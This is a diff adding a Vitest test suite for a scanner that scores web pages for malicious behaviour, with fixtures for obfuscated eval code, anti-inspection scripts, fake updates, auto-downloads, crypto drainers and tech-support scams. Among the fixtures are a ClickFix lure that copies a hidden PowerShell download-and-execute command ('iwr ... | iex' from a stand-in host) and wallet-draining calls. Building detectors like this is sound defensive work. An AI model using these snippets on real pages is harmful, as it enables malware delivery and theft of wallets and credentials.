@@ -1,0 +1,86 @@
+import { describe, expect, it } from 'vitest';
+import { html, runCheck, scoreOf } from '../testing/check-harness.ts';
+import { pageBehaviourCheck } from './page-behaviour.ts';
+
+const check = (body: string, title?: string, url = 'https://site.example/') =>
+  runCheck(pageBehaviourCheck, { url, html: html(body, title) });
+const script = (code: string) => `<script>${code}</script>`;
+
+describe('malicious behaviour', () => {
+  it('finds nothing on an ordinary page with ordinary scripts', () => {
+    const category = check(`<p>Hello</p>${script("document.querySelector('p').classList.add('ready');")}`);
+    expect(category.details.every((detail) => detail.risk_score === 0)).toBe(true);
+  });
+
+  it('flags packed and eval-decoded code, and sees a redirect through the encoding', () => {
+    expect(
+      scoreOf(check(script("eval(function(p,a,c,k,e,d){return p}('x',1,1,'x'.split('|'),0,{}))")), 'page_obfuscated_script'),
+    ).toBeGreaterThanOrEqual(50);
+    const hidden = Buffer.from("window.location.href='https://phish.example.net/login';").toString('base64');
+    expect(scoreOf(check(script(`eval(atob("${hidden}"))`)), 'page_obfuscated_script')).toBeGreaterThanOrEqual(70);
+    const local = Buffer.from("window.location.href='/next';").toString('base64');
+    expect(scoreOf(check(script(`eval(atob("${local}"))`)), 'page_obfuscated_script')).toBeLessThan(70);
+  });
+
+  it('ignores code shown as text', () => {
+    expect(scoreOf(check('<pre><code>eval(atob("d2luZG93"))</code></pre>'), 'page_obfuscated_script')).toBe(0);
+  });
+
+  it('flags developer-tools blocking above right-click blocking', () => {
+    const devtools = scoreOf(check(script('document.onkeydown=function(e){if(e.keyCode==123)return false;}')), 'page_anti_inspection');
+    const rightClick = scoreOf(check('<div oncontextmenu="return false">x</div>'), 'page_anti_inspection');
+    expect(devtools).toBeGreaterThan(rightClick);
+    expect(rightClick).toBeGreaterThan(0);
+  });
+
+  it('flags a ClickFix fake CAPTCHA as decisive', () => {
+    const body = `<h1>Verify you are human</h1><ol><li>Press Windows Key + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol>${script(
+      'navigator.clipboard.writeText("powershell -w hidden -c iwr https://x.example/a.ps1 | iex")',
+    )}`;
+    expect(scoreOf(check(body), 'page_fake_captcha')).toBeGreaterThanOrEqual(90);
+    expect(scoreOf(check('<h1>Verify you are human</h1><div class="g-recaptcha"></div>'), 'page_fake_captcha')).toBe(0);
+  });
+
+  it('flags fake update lures, decisively with an executable', () => {
+    const lure = '<h1>Your Chrome browser is out of date</h1>';
+    expect(scoreOf(check(`${lure}<a href="/ChromeSetup.exe">Update</a>`), 'page_fake_update')).toBeGreaterThanOrEqual(80);
+    expect(scoreOf(check(lure), 'page_fake_update')).toBeGreaterThan(30);
+    expect(scoreOf(check('<p>Update your browser regularly to stay safe.</p>'), 'page_fake_update')).toBe(0);
+  });
+
+  it('flags drainer code and recovery-phrase forms, not read-only wallet connections', () => {
+    const drainer = script(
+      "ethereum.request({method:'eth_requestAccounts'}); x('setApprovalForAll'); ethereum.request({method:'eth_sendTransaction'})",
+    );
+    expect(scoreOf(check(drainer, 'Claim your airdrop'), 'page_crypto_drainer')).toBeGreaterThanOrEqual(85);
+    expect(
+      scoreOf(check('<p>Enter your 12-word recovery phrase</p><form><textarea name="phrase"></textarea></form>'), 'page_crypto_drainer'),
+    ).toBeGreaterThanOrEqual(90);
+    expect(scoreOf(check(script("window.ethereum.request({method:'eth_requestAccounts'})"), 'Portfolio'), 'page_crypto_drainer')).toBe(0);
+  });
+
+  it('flags automatic downloads of programs', () => {
+    expect(scoreOf(check('<meta http-equiv="refresh" content="0; url=/files/invoice.exe">'), 'page_auto_download')).toBeGreaterThanOrEqual(
+      80,
+    );
+    const clicked = script(
+      "var a=document.createElement('a');a.href='/update.msi';a.download='update.msi';document.body.append(a);a.click();",
+    );
+    expect(scoreOf(check(clicked), 'page_auto_download')).toBeGreaterThanOrEqual(80);
+    const attachment = runCheck(pageBehaviourCheck, {
+      url: 'https://files.example/get',
+      html: '',
+      contentType: 'application/octet-stream',
+      headers: { 'content-disposition': 'attachment; filename="Setup.exe"' },
+    });
+    expect(scoreOf(attachment, 'page_auto_download')).toBeGreaterThanOrEqual(80);
+    expect(scoreOf(check('<a href="/brochure.pdf" download>Brochure</a>'), 'page_auto_download')).toBe(0);
+  });
+
+  it('flags tech-support scams with a phone number as decisive', () => {
+    const body =
+      '<h1>Windows Defender Security Warning</h1><p>Your computer has been infected with a Trojan spyware.</p><p>Call Microsoft Support: +1 (888) 526-4012</p>';
+    expect(scoreOf(check(body), 'page_tech_support_scam')).toBeGreaterThanOrEqual(85);
+    expect(scoreOf(check('<p>Call our support team on +1 888 526 4012 for help with your order.</p>'), 'page_tech_support_scam')).toBe(0);
+  });
+});
